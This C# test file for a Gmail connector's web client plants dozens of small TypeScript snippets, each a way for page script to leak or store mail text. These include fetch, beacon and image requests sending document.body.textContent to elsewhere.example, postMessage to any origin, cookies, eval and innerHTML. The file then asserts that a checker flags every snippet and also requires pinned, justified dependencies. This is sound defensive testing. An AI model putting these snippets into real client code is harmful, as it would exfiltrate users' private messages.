using System.Diagnostics;
using System.Text.Json;
using GmailConnector.Walls.Tests.Repository;

namespace GmailConnector.Walls.Tests.Client;

/// <summary>The client's scripts name what an approved list has, and nothing else: each way out that a script has doesn't build.</summary>
public class ClientScriptTests
{
    private static readonly (string What, string Source)[] Planted =
    [
        ("fetches elsewhere", "void fetch('https://elsewhere.example/?' + document.body.textContent);"),
        ("asks by another name", "const ask = window['fetch']; void ask('/x');"),
        ("takes it out of the window", "const { fetch: ask } = window; void ask('/x');"),
        ("asks by htmx", "import htmx from 'htmx.org'; void htmx.ajax('get', '/x?' + document.body.textContent, 'body');"),
        ("sends a beacon", "navigator.sendBeacon('/x', document.body.textContent);"),
        ("opens a socket", "new WebSocket('wss://elsewhere.example').send('x');"),
        ("opens a peer connection", "new RTCPeerConnection({ iceServers: [{ urls: 'stun:x.elsewhere.example' }] });"),
        ("listens to events", "new EventSource('/x');"),
        ("opens a window", "window.open('https://elsewhere.example');"),
        ("tells the outer page", "parent.postMessage(document.body.textContent, '*');"),
        ("tells other tabs", "new BroadcastChannel('x').postMessage('y');"),
        ("keeps it", "localStorage.setItem('x', document.body.textContent ?? '');"),
        ("keeps it for the tab", "sessionStorage.x = 'y';"),
        ("keeps it in a database", "indexedDB.open('x');"),
        ("keeps it in a cookie", "document.cookie = 'x=' + document.body.textContent;"),
        ("keeps it in the caches", "void caches.open('x');"),
        ("keeps it in the history", "history.pushState({ text: document.body.textContent }, '');"),
        ("puts it into the address", "location.hash = document.body.textContent ?? '';"),
        ("goes there", "location.href = 'https://elsewhere.example/?' + document.body.textContent;"),
        ("starts a worker", "new Worker('/x.js');"),
        ("registers a service worker", "void navigator.serviceWorker.register('/x.js');"),
        ("loads an image", "new Image().src = '/x?' + document.body.textContent;"),
        ("makes an image", "const i = document.createElement('img'); document.body.append(i);"),
        ("sets an address", "document.body.setAttribute('background', '/x?' + document.body.textContent);"),
        ("sets an attribute by a made-up name", "const name = 'sr' + 'c'; document.body.setAttribute(name, '/x');"),
        ("sends a form by itself", "document.querySelector('form')?.requestSubmit();"),
        ("sends a form past its page", "document.querySelector('form')?.submit();"),
        ("leads a form elsewhere", "const f = document.querySelector('form'); if (f) { f.method = 'get'; }"),
        ("writes markup", "document.body.innerHTML = '<img src=x>';"),
        ("writes markup after", "document.body.insertAdjacentHTML('beforeend', '<img src=x>');"),
        ("evaluates", "eval('1');"),
        ("makes a function", "new Function('return 1')();"),
        ("makes a function of a function", "(() => 1).constructor('return 1')();"),
        ("loses the type", "(window as any).open('/x');"),
        ("reads what is made up", "const name = ['op', 'en'].join(''); (window as unknown as Record<string, (a: string) => void>)[name]?.('/x');"),
        ("loads a script by a made-up name", "const name = '/x' + '.js'; void import(name);"),
        ("assigns past the names", "Object.assign(document.body, { innerHTML: 'x' });"),
        ("reflects", "Reflect.set(document, 'title', 'x');"),
        ("takes the global object", "const all: unknown = globalThis; void all;"),
        ("copies to the clipboard", "void navigator.clipboard.writeText(document.body.textContent ?? '');"),
        ("puts the subject into the title", "document.title = document.body.textContent ?? '';"),
        ("has styles fetch", "document.body.style.background = 'url(/x)';"),
        ("prints", "print();"),
        ("says a sentence of its own", "document.body.setAttribute('title', 'Read by people');"),
        ("puts a sentence together", "document.body.setAttribute('title', `${document.body.children.length} messages`);"),
        ("gives a text fewer values than it has places", "import { texts } from '../../Client/texts'; document.body.setAttribute('title', texts.sizeOfLimit);"),
        ("imports a package that nobody approved", "import dompurify from 'dompurify'; dompurify.addHook('uponSanitizeElement', () => undefined);"),
    ];

    [Fact]
    public async Task The_client_names_what_the_list_has_and_the_list_nothing_more()
    {
        var (code, said) = await CheckAsync([]);

        Assert.True(code == 0, said);
        Assert.Equal("", said);
    }

    [Fact]
    public async Task No_way_out_that_a_script_has_is_on_it()
    {
        var folder = Directory.CreateDirectory(Path.Combine(
            Repo.PathOf("src/GmailConnector.Web/obj"), "planted-" + Guid.NewGuid().ToString("N")));
        try
        {
            var files = new List<string>();
            foreach (var (index, (_, source)) in Planted.Index())
            {
                files.Add(Path.Combine(folder.FullName, $"p{index}.ts"));
                await File.WriteAllTextAsync(files[^1], source + "\nexport {};\n", TestContext.Current.CancellationToken);
            }

            files.Add(Path.Combine(folder.FullName, "good.ts"));
            await File.WriteAllTextAsync(
                files[^1],
                "const p = document.createElement('p');\np.textContent = 'Sent';\ndocument.body.append(p);\nexport {};\n",
                TestContext.Current.CancellationToken);
            var (code, said) = await CheckAsync(files);

            Assert.Equal(1, code);
            var told = said.Split('\n').Where(l => l.Contains("error CLIENT", StringComparison.Ordinal)).ToList();
            Assert.Empty(Planted
                .Index()
                .Where(p => !told.Any(l => l.Contains($"/p{p.Index}.ts(", StringComparison.Ordinal)))
                .Select(p => p.Item.What));
            Assert.DoesNotContain(told, l => l.Contains("/good.ts(", StringComparison.Ordinal));
            Assert.DoesNotContain(told, l => l.Contains("Cannot find", StringComparison.Ordinal));
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    [Fact]
    public void Every_package_of_the_client_is_pinned_by_what_is_in_it_and_has_a_reason()
    {
        using var manifest = JsonDocument.Parse(Repo.Read("src/GmailConnector.Web/package.json"));
        using var locked = JsonDocument.Parse(Repo.Read("src/GmailConnector.Web/package-lock.json"));
        var reasons = Repo.Read("docs/decisions/0005-dependencies.md");
        var named = manifest.RootElement.GetProperty("devDependencies").EnumerateObject().ToList();

        Rule.Holds(named, p => Faults(p, reasons), atLeast: 5);
        Rule.Holds(
            [.. locked.RootElement.GetProperty("packages").EnumerateObject().Where(p => p.Name.Length > 0)],
            p => p.Value.TryGetProperty("integrity", out var hash) && hash.GetString()!.StartsWith("sha512-", StringComparison.Ordinal)
                ? []
                : [$"{p.Name} isn't pinned by its integrity."],
            atLeast: 5);
        Assert.NotEmpty(Faults(JsonDocument.Parse("""{"left-pad":"^1.0.0"}""").RootElement.EnumerateObject().Single(), reasons));
    }

    private static IEnumerable<string> Faults(JsonProperty package, string reasons)
    {
        if (!package.Value.GetString()!.All(c => char.IsAsciiDigit(c) || c == '.'))
        {
            yield return $"{package.Name} has no version of its own.";
        }

        if (!reasons.Contains(package.Name, StringComparison.Ordinal))
        {
            yield return $"{package.Name} has no reason in docs/decisions/0005-dependencies.md.";
        }
    }

    private static async Task<(int Code, string Said)> CheckAsync(IEnumerable<string> files)
    {
        var start = new ProcessStartInfo("node", ["Client/check.mjs", .. files])
        {
            WorkingDirectory = Repo.PathOf("src/GmailConnector.Web"),
            RedirectStandardOutput = true,
            RedirectStandardError = true,
        };
        using var node = Process.Start(start)!;
        var errors = node.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
        var output = await node.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        await node.WaitForExitAsync(TestContext.Current.CancellationToken);
        return (node.ExitCode, output + await errors);
    }
}
